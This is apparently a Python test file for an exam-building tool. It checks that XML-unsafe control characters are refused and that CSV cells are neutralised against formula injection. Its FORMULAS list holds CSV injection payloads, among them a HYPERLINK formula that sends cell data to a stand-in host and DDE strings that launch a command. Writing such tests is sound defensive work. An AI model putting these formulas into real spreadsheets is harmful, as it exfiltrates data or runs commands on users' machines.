"""User text on its way into XML and CSV (issue 10, items 8 and 9): titles and names that XML cannot
carry are refused with one line; every produced XML file parses; no CSV cell runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import xml.etree.ElementTree as ET
import zipfile

import pytest

from symbackprop.cli import main
from symbackprop.engine.spec import lecture_text, load_spec, loads_spec
from symbackprop.errors import ExamError
from symbackprop.exam import build as exam_module
from symbackprop.exam.build import build_exam
from symbackprop.exam.roster import loads_roster
from symbackprop.exam.variants import Student
from symbackprop.io.usertext import csv_cell, csv_text, text_problem, xml_clean

NOT_XML = ["\x01", "\x08", "\x0b", "\x1f", "\ufffe", "\uffff"]


def _run(capsys, *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().err


def _toml_escape(ch: str) -> str:
    return f"\\u{ord(ch):04X}"


# -- item 8: characters XML 1.0 cannot carry -----------------------------------------------------------

@pytest.mark.parametrize("field", ["title", "author"])
@pytest.mark.parametrize("ch", NOT_XML)
def test_spec_title_or_author_with_a_control_character_is_refused(tmp_path, capsys, field, ch):
    lines = lecture_text().splitlines()
    lines = [f'{field} = "Quiz{_toml_escape(ch)}"' if line.startswith(f"{field} = ") else line for line in lines]
    text = "\n".join(lines) + "\n"
    path = tmp_path / "quiz.toml"
    path.write_text(text, encoding="utf-8")
    code, err = _run(capsys, "check", str(path))
    assert code == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert f"quiz.toml: {field}: holds the control character U+{ord(ch):04X}" in err


def test_spec_title_cap_and_what_is_allowed():
    lecture = lecture_text()
    title_line = next(line for line in lecture.splitlines() if line.startswith("title = "))
    ok = 'title = "Tab\\tnew\\nline \u00e9 \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d ' + "x" * 150 + '"'
    assert "\t" in loads_spec(lecture.replace(title_line, ok)).title
    with pytest.raises(Exception, match=r"title: is 200,001 characters long \(at most 200\)"):
        loads_spec(lecture.replace(title_line, 'title = "' + "x" * 200_001 + '"'), source="big.toml")


@pytest.mark.parametrize("ch", [c for c in NOT_XML if not c.isspace()])  # roster whitespace is a space
def test_roster_name_or_id_with_a_control_character_is_refused(ch):
    with pytest.raises(ExamError, match=rf"row 3: the name holds the control character U\+{ord(ch):04X}"):
        loads_roster(f"id,name\n1,Ada\n2,A{ch}B\n")
    with pytest.raises(ExamError, match=rf"row 2: the id holds the control character U\+{ord(ch):04X}"):
        loads_roster(f"id,name\n{ch}1,Ada\n")


def test_roster_with_a_control_character_exits_2_and_writes_nothing(tmp_path, capsys):
    (tmp_path / "class.csv").write_bytes(b"name\nA\x01B\n")
    code, err = _run(capsys, "exam", "--roster", str(tmp_path / "class.csv"), "--moodle", "--qti",
                     "-o", str(tmp_path / "out"))
    assert code == 2 and "row 2: the name holds the control character U+0001" in err and err.count("\n") == 1
    assert not (tmp_path / "out").exists()


def _xml_documents(files: dict[str, bytes]) -> dict[str, bytes]:
    docs = {"moodle.xml": files["moodle.xml"]}
    with zipfile.ZipFile(io.BytesIO(files["canvas-qti.zip"])) as zf:
        docs.update({name: zf.read(name) for name in zf.namelist() if name.endswith(".xml")})
    return docs


def test_every_xml_file_parses_even_when_text_bypasses_validation(monkeypatch):
    """The XML writers' own line: a title and names with U+0001 / U+FFFE still give well-formed files."""
    spec = dataclasses.replace(load_spec(None), title="Quiz\x01\ufffe ]]> <b>&amp;")
    students = [Student("s\x011", "A\x01B \ufffe"), Student("s2", 'Ann & <Bob> "]]>"')]
    monkeypatch.setattr(exam_module, "load_roster", lambda path: students)
    files = build_exam(None, spec=spec, roster="class.csv", seed=3, moodle=True, qti=True).files
    docs = _xml_documents(files)
    assert len(docs) == 1 + 1 + 2 * 2  # moodle.xml, the manifest and two files per variant
    names = []
    for data in docs.values():
        root = ET.fromstring(data)  # raises on a malformed document
        names += [el.text or "" for el in root.iter() if el.tag.endswith(("}title", "name", "text"))]
    assert any("Quiz ]]> <b>&amp; - variant 001 - AB " in n for n in names), names
    assert any("Ann & <Bob> \"]]>\"" in n for n in names)


def test_xml_clean_keeps_every_character_xml_allows():
    allowed = "\t\n\r A\u00e9\u0645\u05d0\u4f60\ud7ff\ue000\ufffd\U0001F600"
    assert xml_clean(allowed) == allowed
    assert xml_clean("a" + "".join(NOT_XML) + "b") == "ab"
    assert text_problem(allowed) is None


# -- item 9: CSV injection --------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "=1+1", "-", "+"]


def test_index_csv_neutralises_formula_cells(tmp_path):
    roster = tmp_path / "class.csv"
    rows = [[f"id{k}" if k % 2 else f, f] for k, f in enumerate(FORMULAS)]
    roster.write_text(csv_text(["id", "name"], []) + "".join(
        f'"{i.replace(chr(34), chr(34) * 2)}","{n.replace(chr(34), chr(34) * 2)}"\n' for i, n in rows),
        encoding="utf-8")
    files = build_exam(None, roster=roster, seed=2).files
    table = list(csv.reader(io.StringIO(files["index.csv"].decode())))
    assert table[0] == ["variant", "seed", "student_id", "student_name", "questions", "key", "answers"]
    for row, (ident, name) in zip(table[1:], rows, strict=True):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert row[3] == "'" + name  # the name as written, shown as text
        assert row[2] == (ident if ident.startswith("id") else "'" + ident)
        assert row[1].isdigit()


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-0.5", "-0.5"), ("+3", "+3"), (-7, "-7"), (12, "12"), ("a=1", "a=1"),
    (" =1", " =1"), ("", ""), ("Zo\u00eb", "Zo\u00eb"),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_csv_text_is_read_back_as_written_apart_from_the_quote():
    text = csv_text(["a", "b"], [["=x", 'say "hi", ok'], [-1, "@y"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=x", 'say "hi", ok'], ["-1", "'@y"]]
    assert text.endswith("\n") and "\r" not in text



def test_xml_clean_of_ascii_text_drops_the_same_characters_as_of_any_text():
    """ASCII text takes the fast path (its bytes): every control character but tab and the line ends goes, with
    or without a non-ASCII letter beside it (the other path)."""
    ascii_text = "".join(map(chr, range(128))) * 2
    kept = "".join(c for c in ascii_text if c in "\t\n\r" or ord(c) >= 0x20)
    assert xml_clean(ascii_text) == kept
    assert xml_clean(ascii_text + "é") == kept + "é"
